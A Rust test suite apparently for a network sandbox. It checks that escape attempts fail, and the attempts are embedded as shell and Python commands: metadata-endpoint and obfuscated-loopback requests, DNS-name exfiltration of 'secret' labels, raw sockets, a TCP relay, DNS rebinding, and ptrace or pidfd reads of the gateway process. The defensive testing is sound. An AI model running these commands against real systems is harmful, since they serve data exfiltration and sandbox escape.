//! What a command tries in vain.

use std::collections::BTreeSet;
use std::net::{IpAddr, TcpListener, UdpSocket};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use shieling::approval::Mode;
use shieling::network::{BoxFuture, HostName, Resolver};

use crate::outside::own_address;
use crate::place::{Place, Server, has};

#[test]
fn other_names_do_not_exist_and_the_outcome_says_what_opens_them() {
    let server = Server::start();
    let place = Place::open(&[&server.host()]);
    if !has("curl") {
        return;
    }
    let denied = place.fails("curl -sS http://other.example.org/");
    assert!(
        denied.iter().any(|denied| denied.host == "other.example.org"
            && denied
                .instead
                .as_deref()
                .is_some_and(|instead| instead.contains("--allow-host other.example.org"))),
        "{denied:?}"
    );
    // As another command looks for a name without a way out, it is told once more.
    let again = place.fails("getent hosts other.example.org");
    assert!(
        again.iter().any(|denied| denied.host == "other.example.org"),
        "{again:?}"
    );
}

#[test]
fn addresses_are_unreachable_at_once_in_whatever_notation() {
    let server = Server::start();
    let reached = TcpListener::bind("127.0.0.1:0").expect("a port");
    reached.set_nonblocking(true).expect("a socket");
    let port = reached.local_addr().expect("bound").port();
    let place = Place::open(&[&server.host()]);
    if !has("curl") {
        return;
    }
    for host in [
        "127.0.0.1",
        "0177.0.0.1",
        "0x7f.1",
        "2130706433",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "0.0.0.0",
        "localhost",
        "LOCALHOST.",
        "host.internal",
        "host.internal.",
        "169.254.169.254",
        "[fd00:ec2::254]",
        "192.0.2.1",
        "198.18.0.1",
        "198.19.255.255",
        "[2001:db8::1]",
    ] {
        place.fails(&format!("curl -sS -g -m 10 http://{host}:{port}/"));
    }
    assert!(reached.accept().is_err(), "nobody came");
}

#[test]
fn datagrams_raw_sockets_and_packets_go_nowhere() {
    let server = Server::start();
    let place = Place::open(&[&server.host()]);
    if !has("python3") {
        return;
    }
    let here = UdpSocket::bind("127.0.0.1:0").expect("a port");
    here.set_nonblocking(true).expect("a socket");
    let port = here.local_addr().expect("bound").port();
    // This one may be sent, on the sandbox's own loopback.
    place.run(&format!(
        "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"x\", (\"127.0.0.1\", {port}))'"
    ));
    assert!(here.recv(&mut [0; 8]).is_err(), "it went to the host");
    for socket in [
        "socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP",
        "socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW",
        "socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP",
        "socket.AF_PACKET, socket.SOCK_RAW, 0x300",
        "socket.AF_NETLINK, socket.SOCK_RAW, 12",
        "socket.AF_VSOCK, socket.SOCK_STREAM",
    ] {
        place.fails(&format!("python3 -c 'import socket; socket.socket({socket})'"));
    }
    for address in ["192.0.2.1", "8.8.8.8", "169.254.169.254"] {
        place.fails(&format!(
            "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"x\", (\"{address}\", 53))'"
        ));
    }
}

#[test]
fn routes_and_the_interface_cannot_be_changed() {
    let server = Server::start();
    let place = Place::open(&[&server.host()]);
    for text in [
        "ip route add local 10.0.0.0/8 dev lo",
        "ip route add default dev lo",
        "ip link add type dummy",
        "ip addr add 10.0.0.1/8 dev lo",
        "unshare -rn true",
        "echo 0 > /proc/sys/net/ipv4/ip_unprivileged_port_start",
        "python3 -c 'import socket; socket.socket().bind((\"198.18.0.16\", 443))'",
        "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind((\"198.18.0.1\", 53))'",
    ] {
        place.fails(text);
    }
}

#[test]
fn no_command_has_a_descriptor_of_the_gateway() {
    let server = Server::start();
    let place = Place::open(&[&server.host()]);
    let printed = place.prints("readlink /proc/[0-9]*/fd/* | grep -c socket; true");
    assert_eq!(printed, "0", "neither its own nor those of pid 1");
    place.fails("cat /proc/1/fd/[4-9]*");
    place.fails("python3 -c 'import os; os.pidfd_open(1); import ctypes; raise SystemExit(ctypes.CDLL(None).syscall(438, os.pidfd_open(1), 5, 0) < 0)'");
}

#[test]
fn another_sandbox_does_not_reach_it() {
    let server = Server::start();
    let place = Place::open(&[&server.host()]);
    if !has("python3") {
        return;
    }
    let address = place.prints("getent hosts host.internal | cut -d' ' -f1");
    let port = server.address.port();
    let connect = format!("exec 3<> /dev/tcp/{address}/{port}");
    place.prints(&connect);
    let other = Place::open(&["example.org"]);
    other.fails(&connect);
    // Nor does this host: the address is the sandbox's alone.
    let socket = std::net::TcpStream::connect_timeout(
        &format!("{address}:{port}").parse().expect("an address"),
        Duration::from_millis(300),
    );
    assert!(socket.is_err());
}

#[test]
fn no_name_leaves_that_is_not_allowed() {
    let server = Server::start();
    let place = Place::open(&[&server.host()]);
    if !has("python3") {
        return;
    }
    // The data would be in the name.
    let text = "python3 -c '
import socket
for i in range(200):
    try: socket.getaddrinfo(f\"secret-{i}.tunnel.example.org\", 80)
    except OSError: pass
    else: raise SystemExit(0)
raise SystemExit(1)'";
    let denied = place.fails(text);
    assert!(!denied.is_empty() && denied.len() <= 64, "bounded: {}", denied.len());
}

#[test]
fn a_request_to_go_on_to_another_host_reaches_the_server_that_was_named_and_no_other() {
    let server = Server::start();
    let place = Place::open(&[&server.host()]);
    if !has("python3") {
        return;
    }
    let port = server.address.port();
    let text = format!(
        "python3 -c '
import socket
s = socket.create_connection((\"host.internal\", {port}))
s.sendall(b\"CONNECT other.example.org:443 HTTP/1.1\\r\\nHost: other.example.org\\r\\n\\r\\n\")
print(s.recv(999)[-6:])'"
    );
    place.run(&text);
    let received = server.received();
    assert_eq!(received.len(), 1, "{received:?}");
    assert!(
        received[0].starts_with("CONNECT other.example.org"),
        "as it was sent: {received:?}"
    );
}

/// Listens on the sandbox's own loopback, and connects each client to the host and port of its first line.
const RELAY: &str = "
import socket, sys, threading
def pass_on(a, b):
    try:
        while data := a.recv(65536): b.sendall(data)
    except OSError: pass
    try: b.shutdown(socket.SHUT_WR)
    except OSError: pass
def serve(client):
    line = b''
    while not line.endswith(b'\\n'): line += client.recv(1) or b'\\n'
    host, port = line.decode().split()
    try: there = socket.create_connection((host, int(port)), 10)
    except OSError as error: client.sendall(f'relay: {error}'.encode()); client.close(); return
    threading.Thread(target=pass_on, args=(client, there)).start()
    pass_on(there, client)
s = socket.create_server(('127.0.0.1', 7999))
open('ready', 'w').close()
while True: threading.Thread(target=serve, args=(s.accept()[0],)).start()
";

#[test]
fn a_relay_in_the_sandbox_reaches_nothing_that_its_programs_do_not() {
    let server = Server::start();
    let Some(own) = own_address() else { return };
    let reached = TcpListener::bind((own, 0)).expect("a port");
    reached.set_nonblocking(true).expect("a socket");
    let loopback = TcpListener::bind("127.0.0.1:0").expect("a port");
    loopback.set_nonblocking(true).expect("a socket");
    let place = Place::open(&[&server.host()]);
    if !has("python3") {
        return;
    }
    std::fs::write(place.workspace.path().join("relay.py"), RELAY).expect("our own file");
    let (own_port, loopback_port) = (
        reached.local_addr().expect("bound").port(),
        loopback.local_addr().expect("bound").port(),
    );
    let port = server.address.port();
    // A relay that closes has read all that was written, so that its answer is not lost.
    let request = |target: &str, then: &str| {
        format!(
            "exec 3<> /dev/tcp/127.0.0.1/7999; printf '{target}\\n{then}' >&3; \
             timeout 12 head -n 1 <&3; exec 3>&-; echo; "
        )
    };
    let refused = [
        format!("{own} {own_port}"),
        format!("127.0.0.1 {loopback_port}"),
        format!("host.internal {loopback_port}"),
        format!("host.internal {}", port ^ 1),
        "169.254.169.254 80".to_owned(),
        "192.0.2.1 443".to_owned(),
        "other.example.org 443".to_owned(),
        format!("::ffff:{own} {own_port}"),
    ];
    let texts: String = refused.iter().map(|target| request(target, "")).collect();
    let text = format!(
        "python3 relay.py & until test -e ready; do sleep 0.05; done; {}{texts}kill $!",
        request(&format!("host.internal {port}"), "GET / HTTP/1.0\\r\\n\\r\\n")
    );
    let outcome = place.run(&text);
    let lines: Vec<&str> = outcome.stdout.lines().filter(|line| !line.is_empty()).collect();
    // What its programs reach, it reaches.
    assert!(outcome.stdout.contains("HTTP/1.1 200 OK"), "{outcome:?}");
    let told = lines.iter().filter(|line| line.starts_with("relay: ")).count();
    assert_eq!(told, refused.len(), "{outcome:?}");
    assert!(outcome.took() < Duration::from_secs(15), "at once: {outcome:?}");
    assert!(reached.accept().is_err() && loopback.accept().is_err(), "nobody came");
    let denied = outcome.network.expect("the network was opened").denied;
    assert!(
        denied.iter().any(|denied| denied.host == "other.example.org"),
        "{denied:?}"
    );
}

/// Leads a name to one address first, and then to others in turn.
struct Rebinds {
    addresses: Vec<IpAddr>,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Resolver for Rebinds {
    fn resolve<'a>(&'a self, name: &'a HostName) -> BoxFuture<'a, std::io::Result<Vec<IpAddr>>> {
        let mut asked = self.asked.lock().expect("only pushed to");
        let address = self.addresses[asked.len() % self.addresses.len()];
        asked.push(name.to_string());
        Box::pin(std::future::ready(Ok(vec![address])))
    }
}

#[test]
fn a_name_that_is_bound_to_another_address_later_does_not_lead_there() {
    let Some(own) = own_address() else { return };
    let server = Server::at(own);
    let port = server.address.port();
    let local: Vec<TcpListener> = ["127.0.0.1", "::1"]
        .iter()
        .filter_map(|address| TcpListener::bind((*address, port)).ok())
        .collect();
    let elsewhere = [
        "127.0.0.1",
        "::1",
        "::ffff:127.0.0.1",
        "10.255.255.254",
        "169.254.169.254",
        "fd00:ec2::254",
        "0.0.0.0",
        "198.18.0.16",
    ];
    let addresses: Vec<IpAddr> = std::iter::once(own)
        .chain(elsewhere.iter().map(|address| address.parse().expect("an address")))
        .collect();
    let asked: Arc<Mutex<Vec<String>>> = Arc::default();
    let rebinds = Rebinds {
        addresses,
        asked: Arc::clone(&asked),
    };
    let hosts = [format!("name.example.org:{port}"), format!("{own}:{port}")];
    let place = Place::built(&hosts.each_ref().map(String::as_str), |builder| {
        builder.approval(Mode::Never).resolver(Arc::new(rebinds))
    });
    if !has("curl") {
        return;
    }
    let get = format!("curl -sS -m 10 http://name.example.org:{port}/");
    assert_eq!(place.prints(&get), "served");
    for address in elsewhere {
        let denied = place.fails(&get);
        let refused = denied.iter().find(|denied| denied.host == "name.example.org");
        let because = refused.map(|refused| refused.because.as_str()).unwrap_or_default();
        assert!(
            because.contains("`name.example.org` leads to ") && because.contains("and names do not open these"),
            "{address}: {denied:?}"
        );
    }
    // What is connected to is what was judged: one resolution for each connection, and none for a lookup inside.
    assert_eq!(asked.lock().expect("only pushed to").len(), 1 + elsewhere.len());
    for listener in local {
        listener.set_nonblocking(true).expect("a socket");
        assert!(listener.accept().is_err(), "nobody came");
    }
}

#[test]
fn lookups_leave_the_sandbox_with_a_connection_alone() {
    let Some(own) = own_address() else { return };
    let server = Server::at(own);
    let port = server.address.port();
    let asked: Arc<Mutex<Vec<String>>> = Arc::default();
    let resolver = Rebinds {
        addresses: vec![own],
        asked: Arc::clone(&asked),
    };
    let hosts = [format!("*.example.org:{port}"), format!("{own}:{port}")];
    let place = Place::built(&hosts.each_ref().map(String::as_str), |builder| {
        builder.approval(Mode::Never).resolver(Arc::new(resolver))
    });
    if !has("python3") || !has("curl") {
        return;
    }
    // Under a wildcard, too, data in names goes nowhere. Nor does it in other types, or to another server.
    place.prints(
        "python3 -c '
import os, socket, struct
for i in range(50):
    socket.getaddrinfo(f\"secret-{i}.example.org\", 80)
    try: socket.getaddrinfo(f\"secret-{i}.tunnel.example.net\", 80)
    except OSError: pass
    else: raise SystemExit(\"it exists\")
def query(name, kind, server):
    labels = b\"\".join(bytes([len(one)]) + one.encode() for one in name.split(\".\"))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    s.sendto(struct.pack(\">6H\", 7, 256, 1, 0, 0, 0) + labels + b\"\\0\" + struct.pack(\">2H\", kind, 1), (server, 53))
    return s.recv(512)
for kind in (1, 5, 10, 15, 16, 33, 65, 255):
    query(\"data.example.org\", kind, \"198.18.0.1\"); query(\"x\" * 60 + \".data.example.net\", kind, \"198.18.0.1\")
for server in (\"8.8.8.8\", \"1.1.1.1\", \"192.0.2.53\"):
    try: query(\"data.example.org\", 1, server)
    except OSError: pass
    else: raise SystemExit(\"it answered\")
'",
    );
    assert!(asked.lock().expect("only pushed to").is_empty(), "{asked:?}");
    assert_eq!(
        place.prints(&format!("curl -sS http://one.example.org:{port}/")),
        "served"
    );
    assert_eq!(*asked.lock().expect("only pushed to"), ["one.example.org"]);
}

#[test]
fn names_under_a_wildcard_use_up_neither_addresses_nor_descriptors() {
    if !shieling_testkit::is_alone("attacks::names_under_a_wildcard_use_up_neither_addresses_nor_descriptors") {
        return;
    }
    let server = Server::start();
    let open = || std::fs::read_dir("/proc/self/fd").expect("our own process").count();
    let place = Place::open(&[&server.host(), "*.example.org"]);
    if !has("python3") || !has("curl") {
        return;
    }
    place.prints("true");
    let before = open();
    // As many descriptors as a process has by default are not to be had by looking names up.
    let limit = rustix::process::getrlimit(rustix::process::Resource::Nofile).current;
    let most = usize::try_from(limit.unwrap_or(u64::MAX)).unwrap_or(usize::MAX) / 4;
    let text = "python3 -c '
import socket
found = 0
for i in range(1500):
    try: socket.getaddrinfo(f\"name-{i}.example.org\", 443); found += 1
    except OSError: pass
print(found)'";
    let outcome = place.run(text);
    let found: usize = outcome.stdout.trim().parse().unwrap_or_else(|_| panic!("{outcome:?}"));
    assert!(found > 0 && found < 1500, "{outcome:?}");
    let denied = outcome.network.expect("the network was opened").denied;
    let told = denied
        .iter()
        .any(|denied| denied.because.contains("too many names were looked up"));
    assert!(told, "{denied:?}");
    assert!(open() - before <= most, "{} of {limit:?}", open() - before);
    // What was named is still there.
    let get = format!("curl -sS http://{}/", server.host());
    assert_eq!(place.prints(&get), "served");
}

#[test]
fn no_command_reads_or_traces_the_process_that_has_the_gateway() {
    let place = Place::open(&["example.org"]);
    if !has("python3") {
        return;
    }
    // The gateway is in this process; pid 1 and the supervisor are what a command sees of Shieling.
    let text = format!(
        "python3 - {} 1 $PPID <<'X'
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
there = []
class Vec(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
for pid in map(int, sys.argv[1:]):
    for name in ('mem', 'maps', 'environ', 'syscall', 'stack', 'fd', 'fdinfo', 'root', 'cwd', 'exe', 'map_files', 'task/%d/mem' % pid):
        path = f'/proc/{{pid}}/{{name}}'
        try:
            if os.path.islink(path): os.readlink(path)
            elif os.path.isdir(path): [os.readlink(path + '/' + one) for one in os.listdir(path)] or 1/0
            elif not open(path, 'rb').read(1): continue
            there.append(path)
        except (OSError, ArithmeticError): pass
    for request, name in ((16, 'attach'), (0x4206, 'seize')):
        if libc.ptrace(request, pid, None, None) == 0: there.append((pid, name))
    buffer = ctypes.create_string_buffer(8)
    here, far = Vec(ctypes.addressof(buffer), 8), Vec(0x400000, 8)
    for call in (310, 311):
        if libc.syscall(call, pid, ctypes.byref(here), 1, ctypes.byref(far), 1, 0) >= 0 or ctypes.get_errno() == 14:
            there.append((pid, call))
    try:
        pidfd = os.pidfd_open(pid)
        there += [(pid, 'descriptor', n) for n in range(64) if libc.syscall(438, pidfd, n, 0) >= 0]
    except OSError: pass
print(there)
X",
        std::process::id()
    );
    assert_eq!(place.prints(&text), "[]");
}

/// The inodes of listening sockets in this network, of this process.
fn listening() -> BTreeSet<String> {
    let own: BTreeSet<String> = std::fs::read_dir("/proc/self/fd")
        .expect("our own process")
        .flatten()
        .filter_map(|entry| std::fs::read_link(entry.path()).ok())
        .filter_map(|link| {
            let link = link.to_string_lossy().into_owned();
            Some(link.strip_prefix("socket:[")?.strip_suffix(']')?.to_owned())
        })
        .collect();
    let mut found = BTreeSet::new();
    for (table, state, inode, listens) in [
        ("tcp", 3, 9, "0A"),
        ("tcp6", 3, 9, "0A"),
        ("udp", 3, 9, "07"),
        ("udp6", 3, 9, "07"),
        ("unix", 3, 6, "00010000"),
    ] {
        let text = std::fs::read_to_string(format!("/proc/self/net/{table}")).unwrap_or_default();
        for line in text.lines().skip(1) {
            let words: Vec<&str> = line.split_whitespace().collect();
            if words.get(state) == Some(&listens)
                && let Some(inode) = words.get(inode).filter(|inode| own.contains(**inode))
            {
                found.insert(format!("{table} {inode}"));
            }
        }
    }
    found
}

#[test]
fn no_other_user_and_no_other_sandbox_finds_a_port_of_the_gateway() {
    if !shieling_testkit::is_alone("attacks::no_other_user_and_no_other_sandbox_finds_a_port_of_the_gateway") {
        return;
    }
    let server = Server::start();
    let before = listening();
    assert_eq!(before.len(), 1, "the server: {before:?}");
    let place = Place::open(&[&server.host(), "*.example.org", "udp:example.org:443"]);
    let address = place.prints("getent hosts host.internal | cut -d' ' -f1");
    place.prints("getent hosts name.example.org");
    // It listens in the sandbox's network, and on no address, port or path of this machine's.
    assert_eq!(listening(), before);
    // The same name in another sandbox is that sandbox's own: what this one opened is not open there.
    let other = Place::open(&["host.internal:9"]);
    let theirs = other.prints("getent hosts host.internal | cut -d' ' -f1");
    for address in [&address, &theirs] {
        other.fails(&format!("exec 3<> /dev/tcp/{address}/{}", server.address.port()));
    }
    assert!(server.received().is_empty());
}
